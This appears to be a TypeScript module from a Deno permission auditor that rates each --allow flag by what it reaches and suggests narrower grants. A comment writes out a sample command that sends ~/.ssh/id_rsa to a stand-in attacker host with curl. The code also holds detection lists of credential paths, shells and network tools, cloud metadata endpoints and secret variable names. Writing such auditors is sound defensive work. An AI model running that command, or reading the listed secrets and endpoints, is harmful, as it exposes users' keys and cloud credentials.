/**
 * Rates each grant critical to info, with a one-line why and a narrower
 * flag to use instead. The rules follow what a grant reaches, not its
 * name: `--allow-run=bash` is as good as `-A` (a subprocess has no Deno
 * sandbox), a read of `~/.ssh` is high, a listed localhost is info.
 *
 * Checked against Deno 2.9.6 by experiment: deny beats allow (a bare
 * `--deny-net` cancels `--allow-net`), and `--allow-hrtime` is a no-op with
 * a warning.
 *
 * Why one file a little over the ~400-line guide: the predicates (what is
 * a secret path, a code file, a metadata host) are the rules' own words,
 * and each rule reads best beside the test of the value it rates.
 *
 * @module
 */

import { basename } from "node:path";
import type { Deny, Grant, PermissionKind, Severity } from "./model.ts";

/** A grant's rating: how bad, why, and what to use instead. */
export interface Rating {
  /** How bad it is. */
  severity: Severity;
  /** One line: what the grant lets the program do. */
  message: string;
  /** One line: the narrower flag to use instead. */
  suggestion: string;
}

const HOME =
  /^(?:~|\$\{?HOME\}?|\/root|\/home(?:\/[^/]+)?|\/Users(?:\/[^/]+)?)$/;
const HOME_PREFIX = /^(?:~|\$\{?HOME\}?|\/root|\/home\/[^/]+|\/Users\/[^/]+)\//;
const SECRET_NAMES = new Set([
  ".ssh",
  ".aws",
  ".config",
  ".gnupg",
  ".kube",
  ".docker",
  ".azure",
  ".netrc",
  ".npmrc",
  ".pgpass",
  ".git-credentials",
  ".vault-token",
]);
/**
 * Programs that run arbitrary code or fetch it: a child process is outside
 * Deno's checks, so `--allow-run=bash` is `bash -c 'curl -d @~/.ssh/id_rsa
 * evil.example'`, i.e. -A. Other programs are still outside the sandbox.
 */
const INTERPRETERS =
  /^(?:deno|(?:ba|z|da|k|fi|c|tc)?sh|pwsh|powershell|cmd|python[\d.]*|node(?:js)?|bun|npm|npx|pnpm|yarn|ruby|perl|php|lua|curl|wget|env|sudo|su|doas|xargs|nohup|timeout|docker|podman|kubectl|ssh|awk|gawk|find|make|osascript)$/;
const CODE_FILE = /\.(?:[mc]?[jt]sx?|sh)$/;
const CONFIG_FILE =
  /^(?:deno\.jsonc?|deno\.lock|package(?:-lock)?\.json|import_map\.json|tsconfig\.json|Makefile|Dockerfile)$/;
const DEFAULT_IMPORT_HOSTS = new Set([
  "jsr.io",
  "deno.land",
  "esm.sh",
  "cdn.jsdelivr.net",
  "raw.githubusercontent.com",
  "gist.githubusercontent.com",
]);

function cleanPath(path: string): string {
  const p = path.replace(/^\$\{(\w+)\}/, "$$$1");
  return p.length > 1 ? p.replace(/\/+$/, "") : p;
}

/** Why reading `path` exposes secrets, or null. */
function secretRead(path: string): string | null {
  const p = cleanPath(path);
  if (p === "/") return "the whole filesystem";
  if (HOME.test(p)) return "the home directory: keys, tokens, shell history";
  const segments = p.split("/");
  if (segments.some((s) => SECRET_NAMES.has(s))) return "credentials";
  if (/^\.env(?:\..*|rc)?$/.test(segments.at(-1) ?? "")) return "secrets";
  if (/^\/proc(?:\/|$)/.test(p)) return "other processes' environments";
  if (/^\/etc(?:\/|$)/.test(p)) return "system configuration";
  if (/^\/(?:var\/)?run\/secrets(?:\/|$)/.test(p)) return "mounted secrets";
  return null;
}

/**
 * Why writing `path` is dangerous, or null: a program that may write the
 * project's code, deno.json, git hooks, a shell profile or Deno's module
 * cache runs its own code next time, outside any review of this command.
 */
function riskyWrite(path: string): string | null {
  const p = cleanPath(path);
  if (p === "/") return "the whole filesystem";
  if (HOME.test(p) || HOME_PREFIX.test(p)) {
    return "the home directory: shell profiles, keys, Deno's module cache";
  }
  if (/^\/(?:etc|usr|bin|sbin|lib|boot)(?:\/|$)/.test(p)) return "system files";
  const rel = p.replace(/^\.\//, "");
  if ([".", "./", "..", "$PWD"].includes(p) || rel === "") {
    return "the whole project: its code and deno.json";
  }
  const top = rel.split("/")[0]!;
  if (
    ["src", "lib", "bin", "app", "scripts", ".git", ".github"].includes(top)
  ) {
    return "code or config";
  }
  const last = rel.split("/").at(-1)!;
  if (CODE_FILE.test(last) || CONFIG_FILE.test(last)) return "code or config";
  return null;
}

function hostOf(value: string): string {
  if (value.startsWith("[")) return value.slice(1, value.indexOf("]"));
  const colons = value.split(":").length - 1;
  return colons === 1 ? value.slice(0, value.indexOf(":")) : value;
}

const isLocalHost = (h: string) =>
  /^(?:localhost|127(?:\.\d+){3}|::1?|0\.0\.0\.0)$/.test(hostOf(h));
/** Cloud metadata endpoints hand out the machine's credentials to any GET. */
const isMetadataHost = (h: string) =>
  /^(?:169\.254\.\d+\.\d+|metadata(?:\.google\.internal)?|100\.100\.100\.200|fd00:ec2::254)$/
    .test(hostOf(h));
const isSecretEnv = (name: string) =>
  /TOKEN|KEY|SECRET|PASSW|CREDENTIAL|PRIVATE|AUTH/i.test(name) ||
  /^AWS_/i.test(name);

const LIST_HINT: Record<PermissionKind, string> = {
  read: "list the paths it reads: --allow-read=./data,./config.json",
  write: "list only output paths: --allow-write=./dist",
  net: "list the hosts: --allow-net=api.example.com",
  env: "list the variables: --allow-env=PORT,LOG_LEVEL",
  sys: "list the APIs: --allow-sys=osRelease,hostname",
  run:
    "remove --allow-run; if unavoidable, list exact programs (--allow-run=git), never a shell or interpreter",
  ffi:
    "remove --allow-ffi; if unavoidable, list the exact library: --allow-ffi=./libfoo.so",
  import: "list the hosts: --allow-import=jsr.io,esm.sh, or vendor the code",
};

/**
 * Rates a grant of one kind by what its list reaches: everything, secrets
 * (home, ~/.ssh, .env, /proc, metadata endpoints, secret-looking variables),
 * code and config the program could rewrite, interpreters it could run, or
 * only narrow, harmless values.
 *
 * @param kind The permission.
 * @param values The list, or null for everything of that kind.
 * @returns The rating.
 *
 * @example Usage
 * ```ts
 * import assert from "node:assert/strict";
 * import { rateList } from "./rate.ts";
 * assert.equal(rateList("read", ["~/.ssh"]).severity, "high");
 * assert.equal(rateList("run", ["bash"]).severity, "critical");
 * assert.equal(rateList("net", ["localhost:8000"]).severity, "info");
 * ```
 */
export function rateList(
  kind: PermissionKind,
  values: string[] | null,
): Rating {
  const rated = (
    severity: Severity,
    message: string,
    suggestion = LIST_HINT[kind],
  ) => ({
    severity,
    message,
    suggestion,
  });
  const matches = (test: (v: string) => unknown) =>
    values?.filter((v) => test(v)) ?? [];
  const all = values === null || values.includes("*");
  if (values !== null && values.length === 0) {
    return rated(
      "info",
      "every listed value is denied: no effect",
      "delete the flag",
    );
  }
  switch (kind) {
    case "read": {
      if (all) {
        return rated(
          "high",
          "reads every file the user can: ~/.ssh, ~/.aws, .env",
        );
      }
      const secrets = matches(secretRead);
      if (secrets.length > 0) {
        return rated(
          "high",
          `reads ${secrets.map((s) => `${s}: ${secretRead(s)}`).join("; ")}`,
          `drop ${secrets.join(", ")}; grant only the files the program reads`,
        );
      }
      if (
        matches((v) => [".", "./", "$PWD"].includes(cleanPath(v))).length > 0
      ) {
        return rated(
          "medium",
          "reads the whole project, any .env in it included",
        );
      }
      return rated(
        "low",
        "reads only the listed paths",
        "keep the list as narrow as the program needs",
      );
    }
    case "write": {
      if (all) {
        return rated(
          "high",
          "writes anywhere: can plant code in the project, shell profiles, git hooks",
        );
      }
      const risky = matches(riskyWrite);
      if (risky.length > 0) {
        return rated(
          "high",
          `can rewrite what runs later: ${
            risky.map((r) => `${r} (${riskyWrite(r)})`).join(", ")
          }`,
          "write to a dedicated output directory only: --allow-write=./out",
        );
      }
      return rated(
        "low",
        "writes only to the listed paths",
        "keep the list as narrow as the program needs",
      );
    }
    case "net": {
      if (all) {
        return rated(
          "high",
          "reaches any host: exfiltration anywhere, the cloud metadata endpoint, the LAN",
        );
      }
      if (matches((v) => v.includes("docker.sock")).length > 0) {
        return rated(
          "critical",
          "reaches the Docker socket, which is root on the host",
          "remove the socket from the list",
        );
      }
      const metadata = matches(isMetadataHost);
      if (metadata.length > 0) {
        return rated(
          "high",
          `reaches ${
            metadata.join(", ")
          }: the cloud metadata endpoint hands out credentials`,
          `drop ${metadata.join(", ")}`,
        );
      }
      if (values!.every(isLocalHost)) {
        return rated("info", "local only", "nothing to do");
      }
      return rated(
        "low",
        "reaches only the listed hosts",
        "keep the list as narrow as the program needs",
      );
    }
    case "env": {
      if (all) {
        return rated(
          "high",
          "reads every environment variable, tokens and keys included",
        );
      }
      const secrets = matches(isSecretEnv);
      if (secrets.length > 0) {
        return rated(
          "medium",
          `hands the program secrets: ${secrets.join(", ")}`,
          `keep secrets out of the program: airlock's --inject adds them on the wire (e.g. 'api.example.com:Authorization=Bearer \${env:${
            secrets[0]
          }}')`,
        );
      }
      return rated(
        "low",
        "reads only the listed variables",
        "keep the list as narrow as the program needs",
      );
    }
    case "sys":
      return all
        ? rated(
          "medium",
          "reads host details (interfaces, uid, memory, OS) for fingerprinting",
        )
        : rated(
          "low",
          "reads only the listed host details",
          "keep the list as narrow as the program needs",
        );
    case "run": {
      if (all) {
        return rated(
          "critical",
          "as good as all: a subprocess has no Deno sandbox, and any program may run",
        );
      }
      const shells = matches((v) =>
        INTERPRETERS.test(basename(v).replace(/\.exe$/, ""))
      );
      if (shells.length > 0) {
        return rated(
          "critical",
          `as good as all: a subprocess has no Deno sandbox, and ${
            shells.join(", ")
          } runs any code`,
        );
      }
      return rated(
        "high",
        `${
          values!.join(", ")
        } run outside the Deno sandbox with the user's rights`,
      );
    }
    case "ffi":
      return rated("critical", "native code runs with no Deno sandbox at all");
    case "import": {
      if (all) return rated("medium", "imports code from any host at run time");
      const other = matches((v) => !DEFAULT_IMPORT_HOSTS.has(hostOf(v)));
      if (other.length > 0) {
        return rated(
          "medium",
          `imports code from non-default hosts: ${other.join(", ")}`,
        );
      }
      return rated(
        "info",
        "these hosts are allowed by default already",
        "delete the flag",
      );
    }
  }
}

/**
 * Rates one granting flag against the command's deny flags: deny beats
 * allow, so a bare `--deny-X` cancels the grant and a listed one removes
 * what it covers before the rest is rated.
 *
 * @param grant The granting flag.
 * @param denies The command's `--deny-*` flags.
 * @returns The rating (a fresh object the caller may amend).
 *
 * @example Usage
 * ```ts
 * import assert from "node:assert/strict";
 * import { rateGrant } from "./rate.ts";
 * const grant = { kind: "net", values: null, flag: "--allow-net" } as const;
 * assert.equal(rateGrant(grant, []).severity, "high");
 * const deny = { kind: "net", values: null, flag: "--deny-net" } as const;
 * assert.equal(rateGrant(grant, [deny]).severity, "info");
 * ```
 */
export function rateGrant(grant: Grant, denies: readonly Deny[]): Rating {
  switch (grant.kind) {
    case "all":
      return {
        severity: "critical",
        message:
          "every permission: read ~/.ssh, run any program, reach any host" +
          (denies.length > 0
            ? ` (partly mitigated by ${denies.map((d) => d.flag).join(" ")})`
            : ""),
        suggestion:
          "grant only what it needs: `airlock audit --learn --json prog.ts > trail.json`, then `airlock audit-flags --trail trail.json` proposes the flags",
      };
    case "hrtime":
      return {
        severity: "info",
        message:
          "removed in Deno 2: high-resolution time is always on, the flag only warns",
        suggestion: "delete the flag",
      };
    case "scripts":
      return grant.values === null
        ? {
          severity: "high",
          message:
            "npm lifecycle scripts of every package run as plain processes, outside the Deno sandbox",
          suggestion:
            "list only the packages that need it: --allow-scripts=npm:sqlite3",
        }
        : {
          severity: "medium",
          message: `lifecycle scripts of ${
            grant.values.join(", ")
          } run outside the Deno sandbox`,
          suggestion: "review those packages' install scripts",
        };
  }
  const kind = grant.kind;
  const same = denies.filter((d) => d.kind === kind);
  const total = same.find((d) => d.values === null);
  // Deny beats allow: a bare --deny-X cancels the grant entirely.
  if (total) {
    return {
      severity: "info",
      message: `cancelled by ${total.flag} (deny beats allow)`,
      suggestion: "delete both flags",
    };
  }
  const denied = same.flatMap((d) => d.values ?? []);
  const cancelled =
    grant.values?.filter((v) => denied.some((d) => covers(kind, d, v))) ?? [];
  const left = grant.values?.filter((v) => !cancelled.includes(v)) ?? null;
  const rated = rateList(kind, left);
  if (cancelled.length > 0) {
    rated.message += ` (${cancelled.join(", ")} cancelled by ${
      same.map((d) => d.flag).join(" ")
    })`;
  } else if (same.length > 0) {
    rated.message += ` (partly mitigated by ${
      same.map((d) => d.flag).join(" ")
    })`;
  }
  return rated;
}

/** Whether a deny entry covers an allow entry of the same kind. */
function covers(kind: PermissionKind, deny: string, allow: string): boolean {
  if (deny === allow) return true;
  if (kind === "read" || kind === "write" || kind === "ffi") {
    const d = cleanPath(deny);
    return d === "/" || cleanPath(allow).startsWith(`${d}/`);
  }
  if (kind === "env" && deny.endsWith("*")) {
    return allow.startsWith(deny.slice(0, -1));
  }
  if (kind === "net" || kind === "import") {
    return !deny.includes(":") && hostOf(allow) === deny;
  }
  return false;
}
